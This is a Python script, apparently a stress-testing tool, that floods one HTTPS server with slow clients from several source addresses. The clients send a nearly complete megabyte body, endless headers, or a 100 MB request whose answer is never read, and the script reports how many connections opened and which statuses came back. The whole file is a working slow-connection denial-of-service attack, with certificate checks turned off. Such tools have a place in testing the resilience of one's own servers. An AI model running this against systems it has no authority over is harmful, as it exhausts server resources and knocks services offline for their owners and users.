#!/usr/bin/env python3
"""Plays many clients that are slow, from addresses of their own (or 0.0.0.0, whichever this machine has).

    flood.py body|headers|answer HOST ADDRESS EACH SECONDS SOURCE...   EACH connections from each SOURCE to ADDRESS

`body` sends a megabyte but for its last byte, `headers` 16 KB that do not end, `answer` asks for 100 MB and reads
nothing (FLOOD_TARGET and FLOOD_TOKEN say where and with which token). Holds them, then says how many were opened, and
how many were answered with which status.
"""

import collections
import os
import resource
import socket
import ssl
import sys
import time

SENT = {
    "body": b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 999999\r\n\r\n" + b"x" * 999_998,
    "headers": b"GET / HTTP/1.1\r\nHost: %s\r\nX-Long: " + b"x" * 16_000,
    "answer": b"GET "
    + os.environ.get("FLOOD_TARGET", "/long").encode()
    + b" HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer "
    + os.environ.get("FLOOD_TOKEN", "none").encode()
    + b"\r\n\r\n",
}


def main(kind, host, address, each, seconds, *sources):
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    head, _, rest = SENT[kind].partition(b"%s")
    results, connections = collections.Counter(), []
    for number in range(int(each) * len(sources)):
        try:
            plain = socket.create_connection((address, 443), 10, (sources[number % len(sources)], 0))
            connection = tls.wrap_socket(plain, server_hostname=host)
            connection.settimeout(10)
            connection.sendall(head + host.encode() + rest)
            connections.append(connection)
            results["opened"] += 1
        except OSError as fault:
            results[type(fault).__name__] += 1
    print(f"{results['opened']} opened", flush=True)
    if kind != "answer":
        time.sleep(float(seconds))
    for connection in connections:
        connection.settimeout(10 if kind == "answer" else 0.01)
        try:
            results[connection.recv(12).decode() or "closed"] += 1
        except OSError:
            results["waiting"] += 1
    if kind == "answer":
        time.sleep(float(seconds))  # with nothing but the status read
    print(dict(results))


if __name__ == "__main__":
    main(*sys.argv[1:])
